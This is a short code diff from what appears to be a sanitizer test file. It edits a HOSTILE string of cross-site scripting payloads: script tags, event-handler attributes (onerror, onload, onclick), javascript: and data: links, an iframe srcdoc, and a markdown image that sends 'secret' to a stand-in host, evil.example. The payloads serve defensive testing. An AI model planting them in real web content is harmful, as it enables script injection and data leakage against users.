@@ -34,10 +34,10 @@ def minutes(km: float, speed: float = 70) -> float:
 See [the map](https://example.org/map) for more."""
 
 HOSTILE = (
+    "![pixel](https://evil.example/pixel.png?q=secret) "
+    "[click](javascript:window.hacked=3) <b onclick='window.hacked=13'>bold</b>\n\n"
     "<script>window.hacked = 1</script>"
     "<img src=x onerror='window.hacked = 2'>"
-    "![pixel](https://evil.example/pixel.png?q=secret) "
-    "[click](javascript:window.hacked=3) "
     "<svg onload='window.hacked=4'></svg>"
     "<iframe srcdoc='<script>parent.hacked=5</script>'></iframe>"
     "<a href='data:text/html,<script>window.hacked=6</script>'>data</a>\n\n"
